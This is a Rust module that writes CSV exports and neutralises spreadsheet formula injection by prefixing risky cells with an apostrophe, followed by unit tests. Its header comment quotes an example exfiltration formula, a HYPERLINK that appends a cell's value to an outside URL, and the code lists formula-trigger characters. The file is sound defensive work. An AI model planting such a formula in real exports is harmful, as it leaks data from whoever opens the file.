//! The one CSV writer every CSV export goes through (`data/claims.csv`, and any later
//! one): RFC 4180 quoting by the `csv` crate, and text cells made safe to open in a
//! spreadsheet.
//!
//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (tab,
//! carriage return and NUL in front of one are skipped by some of them), so a quote such
//! as `=HYPERLINK("http://…?leak="&A1)` would run when an analyst opens the file. As the
//! OWASP guidance on CSV injection advises, such a text cell gets a leading `'`, which
//! spreadsheets take as "this is text" and do not show. A cell that a spreadsheet could
//! split (at a `,` or `;` it reads as a separator, or after a quote mark or line break)
//! could start a new cell in the middle of the text, so a formula character right after
//! one of those gets a `'` in front of it as well. Numbers are written as numbers: a
//! number column's `-3` stays `-3`.

use std::borrow::Cow;

/// One cell of a row: text from content (neutralised) or a number (written as is).
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    Text(&'a str),
    /// A number, or an empty cell for `None`.
    Number(Option<f64>),
}

/// Builds CSV text one row at a time.
pub struct CsvWriter {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        CsvWriter {
            writer: csv::Writer::from_writer(Vec::new()),
        }
    }
}

impl CsvWriter {
    /// A header row: the column names (text cells).
    pub fn header(&mut self, names: &[&str]) {
        let cells: Vec<Cell> = names.iter().map(|name| Cell::Text(name)).collect();
        self.row(&cells);
    }

    /// One row of cells.
    pub fn row(&mut self, cells: &[Cell]) {
        let fields = cells.iter().map(|cell| match *cell {
            Cell::Text(text) => spreadsheet_safe(text),
            Cell::Number(n) => Cow::Owned(n.map(|v| v.to_string()).unwrap_or_default()),
        });
        // Writing into a `Vec` cannot fail.
        let _ = self.writer.write_record(fields.map(|f| f.into_owned()));
    }

    /// The CSV text written so far.
    pub fn into_bytes(self) -> Vec<u8> {
        self.writer.into_inner().unwrap_or_default()
    }
}

/// Characters that make a spreadsheet read a cell as a formula.
fn is_formula_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\0')
}

/// Characters after which a spreadsheet may start a new cell (or row) inside a cell's
/// text: separators it may use (`,`, `;`, tab), quote marks and line breaks.
fn may_split_after(c: char) -> bool {
    matches!(c, ',' | ';' | '\t' | '"' | '\'' | '\n' | '\r')
}

/// `text` as a cell no spreadsheet runs as a formula (see the module comment). Text that
/// needs no change is returned as it is.
pub fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
    let starts = text.trim_start_matches(' ').starts_with(is_formula_start);
    let mut previous = None;
    let mid = text.char_indices().find_map(|(at, c)| {
        let found = is_formula_start(c) && previous.is_some_and(may_split_after);
        previous = Some(c);
        found.then_some(at)
    });
    if !starts && mid.is_none() {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 4);
    if starts {
        out.push('\'');
    }
    let mut previous = None;
    for c in text.chars() {
        if is_formula_start(c) && previous.is_some_and(may_split_after) {
            out.push('\'');
        }
        out.push(c);
        previous = Some(c);
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_leading_apostrophe() {
        assert_eq!(spreadsheet_safe("=1+1"), "'=1+1");
        assert_eq!(spreadsheet_safe("+1"), "'+1");
        assert_eq!(spreadsheet_safe("-3 dead"), "'-3 dead");
        assert_eq!(spreadsheet_safe("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(spreadsheet_safe("\t=1"), "'\t'=1");
        assert_eq!(spreadsheet_safe("\r=1"), "'\r'=1");
        assert_eq!(spreadsheet_safe("  =1"), "'  =1");
    }

    #[test]
    fn formulas_after_a_separator_or_quote_are_neutralised() {
        assert_eq!(spreadsheet_safe("a;=1+1"), "a;'=1+1");
        assert_eq!(spreadsheet_safe("a,@x"), "a,'@x");
        assert_eq!(spreadsheet_safe("said \"=x\""), "said \"'=x\"");
        assert_eq!(spreadsheet_safe("line\n-2"), "line\n'-2");
    }

    #[test]
    fn ordinary_text_is_unchanged() {
        for text in [
            "",
            "at least 30",
            "50-60 people",
            "a - b",
            "e-mail me@x.org",
        ] {
            assert!(matches!(spreadsheet_safe(text), Cow::Borrowed(_)), "{text}");
        }
    }

    #[test]
    fn numbers_stay_numbers() {
        let mut writer = CsvWriter::default();
        writer.row(&[
            Cell::Number(Some(-3.0)),
            Cell::Number(Some(1.5)),
            Cell::Number(None),
            Cell::Text("-3"),
        ]);
        assert_eq!(writer.into_bytes(), b"-3,1.5,,'-3\n");
    }
}
